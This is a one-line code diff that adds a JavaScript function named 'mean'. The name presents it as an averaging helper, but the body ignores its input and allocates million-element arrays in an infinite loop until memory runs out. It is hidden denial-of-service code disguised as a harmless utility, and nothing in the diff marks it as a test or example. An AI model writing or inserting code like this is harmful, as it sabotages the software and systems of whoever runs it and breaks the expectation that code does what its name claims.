@@ -1,0 +1,1 @@
+const mean = (xs) => { const a = []; for (;;) a.push(new Array(1e6).fill(1)); };
